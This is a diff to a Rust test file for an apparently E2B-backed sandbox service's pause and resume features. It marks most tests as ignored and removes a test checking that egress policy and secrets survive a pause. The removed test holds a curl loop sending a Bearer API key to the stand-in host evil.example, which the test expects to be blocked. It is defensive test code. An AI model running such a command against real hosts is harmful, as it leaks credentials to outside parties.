@@ -3,8 +3,10 @@
 //! | module | holds |
 //! |---|---|
 //! | [`e2b`] | pausing and resuming through the E2B API |
+//! | [`network`] | policies, secrets and ports after a pause |
 
 mod e2b;
+mod network;
 
 use std::path::PathBuf;
 use std::time::{Duration, Instant};
@@ -15,12 +17,10 @@ use api::files::FilePath;
 use api::limits::Limits;
 use api::policy::Policy;
 use api::sandbox::{CreateSandbox, EndReason, Lease, OnTimeout, Sandbox, SandboxState};
-use api::secret::PutSecret;
 use api::{ErrorCode, SandboxId};
 use client::{Client, Event};
 use e2e::lab::{promised, script};
 use e2e::service::{Service, served, small, tiers, until};
-use e2e::world::in_a_world;
 
 use crate::ports::ground::{Application, asked, exchange, on_each_tier};
 
@@ -64,6 +64,7 @@ fn configured(text: &str) -> (tempfile::TempDir, PathBuf, Service) {
 /// Concurrent and repeated pauses and resumes, during an exec and across kills of the server, lose no
 /// progress.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn a_paused_sandbox_continues_where_it_was() {
     served(async || {
         let mut service = Service::start();
@@ -121,6 +122,7 @@ fn a_paused_sandbox_continues_where_it_was() {
 /// If a server is killed at any moment of a pause or a resume, the restarted server finds the sandbox paused
 /// or running, and the sandbox continues.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn a_server_killed_during_a_pause_or_a_resume_loses_nothing() {
     served(async || {
         let mut service = Service::start();
@@ -161,6 +163,7 @@ fn a_server_killed_during_a_pause_or_a_resume_loses_nothing() {
 /// The idle time, the time to live and exec deadlines do not elapse during a pause. A resume restarts the
 /// first two.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn no_time_elapses_while_paused() {
     served(async || {
         let service = Service::start();
@@ -194,6 +197,7 @@ fn no_time_elapses_while_paused() {
 /// With `on_timeout = pause`, both timeouts pause the sandbox, and a request resumes it with its memory
 /// intact.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn a_timeout_pauses_a_sandbox_that_wants_that() {
     served(async || {
         let service = Service::start();
@@ -245,6 +249,7 @@ fn a_timeout_pauses_a_sandbox_that_wants_that() {
 /// A reader that stays connected receives nothing during a pause. Afterwards it receives the rest of the
 /// output, without a gap.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn a_reader_waits_through_a_pause() {
     served(async || {
         let service = Service::start();
@@ -273,6 +278,7 @@ fn a_reader_waits_through_a_pause() {
 /// Requests for files, ports, leases and policies, and new execs, resume a paused sandbox. Requests that only
 /// inspect the sandbox do not.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn requests_resume_a_paused_sandbox() {
     on_each_tier(async |service, tier| {
         let application = Application::start(service, tier).await;
@@ -307,59 +313,10 @@ fn requests_resume_a_paused_sandbox() {
     });
 }
 
-/// After a pause, a policy and a secret still apply to a program that was already running.
-#[test]
-fn a_policy_and_a_secret_outlive_a_pause() {
-    in_a_world(async |world| {
-        let service = world.service();
-        let client = service.client();
-        client.put_secret("API_KEY", &PutSecret { value: "canary-of-the-pause".into() }).await.unwrap();
-        let words = ["good.example", "secret:API_KEY=good.example/v1"];
-        for tier in tiers() {
-            let policy = Some(Policy::of_words(&words).unwrap());
-            let id = client.create(&CreateSandbox { tier, policy, ..small() }).await.unwrap().id;
-            let ask =
-                "curl -sk -o /dev/null -w %{http_code} -H \"authorization: Bearer $API_KEY\" --max-time 10";
-            let asking = script(&format!(
-                "cd /workspace; while :; do {ask} https://good.example/v1/a > new; mv new good; {ask} http://evil.example/ > new; mv new evil; sleep 0.1; done"
-            ));
-            client.start(&id, &asking).await.unwrap();
-            let said = async || {
-                let text =
-                    "cat /workspace/good; echo; cat /workspace/evil; rm -f /workspace/good /workspace/evil";
-                let done = client.exec(&id, &script(text)).await.unwrap().collect().await.unwrap();
-                String::from_utf8_lossy(&done.stdout).into_owned()
-            };
-            for round in 0..3 {
-                let since = Instant::now();
-                loop {
-                    let said = said().await;
-                    let (good, evil) = said.split_once('\n').unwrap_or_default();
-                    assert_ne!(evil.trim(), "200", "round {round}: {said}");
-                    if good.trim() == "200" {
-                        break;
-                    }
-                    assert!(since.elapsed() < WAIT, "round {round}: no answer of the allowed host: {said}");
-                    tokio::time::sleep(Duration::from_millis(70)).await;
-                }
-                client.pause(&id).await.unwrap();
-                if round == 1 {
-                    tokio::time::sleep(Duration::from_secs(20)).await;
-                }
-                client.resume(&id).await.unwrap();
-            }
-            let seen = world.seen().to_string();
-            assert!(seen.contains("canary-of-the-pause"), "{seen}");
-            client.pause(&id).await.unwrap();
-            client.stop(&id).await.unwrap();
-        }
-        service.assert_nothing_left().await;
-    });
-}
-
 /// A paused sandbox ends after `paused_max_ms`, even across a restart of the server. Until then, it counts
 /// towards the quota.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn a_paused_sandbox_ends_after_the_longest_pause_and_counts_until_then() {
     served(async || {
         let (_place, _path, mut service) = configured("paused_max_ms = 6000\npool_ready = 0\n");
@@ -390,6 +347,7 @@ fn a_paused_sandbox_ends_after_the_longest_pause_and_counts_until_then() {
 
 /// `bellglass pause`, `resume` and `create --on-timeout` work from the command line.
 #[test]
+#[ignore = "starts real sandboxes"]
 fn the_command_line_pauses_and_resumes() {
     served(async || {
         let service = Service::start();
